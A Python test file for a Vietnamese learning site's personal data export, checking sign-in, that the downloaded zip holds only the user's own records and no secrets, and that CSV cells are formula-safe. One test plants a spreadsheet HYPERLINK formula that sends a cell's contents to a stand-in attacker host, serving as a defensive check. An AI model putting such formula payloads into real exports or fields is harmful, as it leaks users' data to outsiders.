"""“Dữ liệu của tôi”: a person downloads everything the site holds about them (JSON + CSV in a zip), and
nobody else's; secrets stay out; the CSV tables are formula-safe."""

import csv
import io
import json
import uuid
import zipfile

from learning.accounts.models import User
from learning.progress.services import lesson_complete


def test_my_data_needs_a_sign_in(client):
    for url in ("/accounts/my-data/", "/accounts/my-data/download/"):
        response = client.get(url)
        assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_my_data_page_is_vietnamese_and_linked_from_the_profile(vi_client, learner):
    vi_client.force_login(learner)
    assert "/accounts/my-data/" in vi_client.get("/accounts/profile/").content.decode()
    page = vi_client.get("/accounts/my-data/")
    assert page.status_code == 200 and "Dữ liệu của tôi" in page.content.decode()


def test_download_holds_everything_about_me_and_nothing_else(client, make_user, lessons):
    me = make_user(full_name="Nguyễn Thị Học")
    other = make_user(full_name="Người Khác")
    User.objects.filter(pk=me.pk).update(
        full_name='=HYPERLINK("http://evil.example/?x="&B2,"Bấm")', email="hoc@example.org"
    )
    for user in (me, other):
        for lesson in lessons:
            lesson_complete(user=user, lesson=lesson, client_id=uuid.uuid4(), time_spent_seconds=60)
    client.force_login(me)
    response = client.get("/accounts/my-data/download/")
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    assert 'filename="du-lieu-cua-toi.zip"' in response["Content-Disposition"]
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert {"du-lieu-cua-toi.json", "account.csv", "enrolments.csv", "lesson_completions.csv"} <= set(
        archive.namelist()
    )
    data = json.loads(archive.read("du-lieu-cua-toi.json"))
    assert data["account"][0]["phone"] == me.phone and data["account"][0]["email"] == "hoc@example.org"
    assert data["account"][0]["target_groups"] == "citizen"
    assert len(data["enrolments"]) == 1 and len(data["lesson_completions"]) == len(lessons)
    assert {row["user_id"] for row in data["lesson_completions"]} == {me.pk}
    text = archive.read("du-lieu-cua-toi.json").decode()
    assert "password" not in text and "Người Khác" not in text
    account = list(csv.DictReader(io.StringIO(archive.read("account.csv").decode("utf-8-sig"))))
    assert account[0]["full_name"].startswith("'=HYPERLINK")  # formula-safe, like every export
    completions = list(csv.reader(io.StringIO(archive.read("lesson_completions.csv").decode("utf-8-sig"))))
    assert len(completions) == 1 + len(lessons)
